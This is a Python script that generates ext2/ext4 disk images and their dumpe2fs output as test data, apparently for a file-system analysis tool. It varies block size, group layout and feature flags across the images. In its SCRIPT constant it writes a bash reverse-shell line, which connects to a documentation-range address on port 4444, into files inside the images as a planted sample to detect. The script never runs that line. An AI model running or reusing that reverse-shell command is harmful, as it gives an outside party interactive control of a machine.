# SPDX-License-Identifier: AGPL-3.0-or-later
"""Makes the images of tests/data/ext-layouts, each with what dumpe2fs says of it, so that the tests need no e2fsprogs.

`python analysis/tests/ext_layout_images.py` writes those that are not there, by mkfs.ext4, debugfs and dumpe2fs 1.47.
"""

import lzma
import os
import subprocess
import tempfile
from pathlib import Path

DATA = Path(__file__).parent / "data/ext-layouts"
MEBIBYTE = 1024 * 1024
SMALL_GROUPS = ("-b", "1024", "-g", "256")
#: Blocks of 1 KiB with small groups: a descriptor's block holds 16 or 32 groups, so each image has several of them.
LAYOUTS = {
    "64bit": (*SMALL_GROUPS, "-O", "meta_bg,^resize_inode"),
    "32bit": (*SMALL_GROUPS, "-O", "meta_bg,^resize_inode,^64bit"),
    "every-group-its-own": (*SMALL_GROUPS, "-O", "meta_bg,^resize_inode,^flex_bg"),
    "a-copy-in-each-group": (*SMALL_GROUPS, "-O", "meta_bg,^resize_inode,^sparse_super"),
    "two-copies": (*SMALL_GROUPS, "-O", "meta_bg,^resize_inode,sparse_super2"),
    "2-KiB": ("-b", "2048", "-g", "256", "-O", "meta_bg,^resize_inode"),
    "clusters": ("-b", "1024", "-O", "meta_bg,^resize_inode,bigalloc", "-C", "4096", "-g", "8192"),
    "no-meta-groups": (*SMALL_GROUPS, "-O", "^resize_inode"),
}
#: Of a fresh file system of 64 MiB.
FEATURES = ("bigalloc", "^extents,^64bit", "^64bit", "^flex_bg", "sparse_super2")
#: In the files of the layouts, and behind the end of the large file.
SCRIPT = b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"


def name_of(features: str) -> str:
    """An image's name of its features."""
    return "fresh-" + features.replace("^", "no-").replace(",", "-")


def image(name: str) -> bytes:
    """A shipped image."""
    return lzma.decompress((DATA / f"{name}.img.xz").read_bytes())


def said_of(name: str) -> str:
    """What dumpe2fs says of it."""
    return lzma.decompress((DATA / f"{name}.txt.xz").read_bytes()).decode()


def _make(name: str, size: int, options: tuple[str, ...], commands: str = "", kind: str = "ext4") -> None:
    if (DATA / f"{name}.img.xz").exists():
        return
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "disk.img"
        path.write_bytes(b"")
        os.truncate(path, size * MEBIBYTE)
        subprocess.run([f"mkfs.{kind}", "-q", "-F", *options, str(path)], check=True, capture_output=True)
        if commands:
            subprocess.run(["debugfs", "-w", "-f", "-", str(path)], input=commands, text=True, check=True, capture_output=True)
        said = subprocess.run(["dumpe2fs", str(path)], check=True, capture_output=True).stdout
        DATA.mkdir(exist_ok=True)
        (DATA / f"{name}.img.xz").write_bytes(lzma.compress(path.read_bytes(), preset=9))
        (DATA / f"{name}.txt.xz").write_bytes(lzma.compress(said, preset=9))


def main() -> None:
    """Makes what is not there."""
    with tempfile.TemporaryDirectory() as directory:
        script, large = Path(directory) / "script", Path(directory) / "large"
        script.write_bytes(SCRIPT)
        large.write_bytes(b"x" * 700_000 + SCRIPT)
        files = "".join(f"mkdir /d{one}\nwrite {script} /d{one}/file\n" for one in range(20))
        for name, options in LAYOUTS.items():
            _make(name, 20, ("-N", "2048", *options), files)
        _make("64bit-small", 8, ("-N", "2048", *LAYOUTS["64bit"]), files)
        for features in FEATURES:
            _make(name_of(features), 64, ("-b", "1024", "-O", features))
        # In blocks that only the tree of a tree of blocks names.
        _make("large-file-of-ext2", 8, ("-b", "1024"), f"write {large} a\nset_inode_field a size 300000\n", "ext2")


if __name__ == "__main__":
    main()
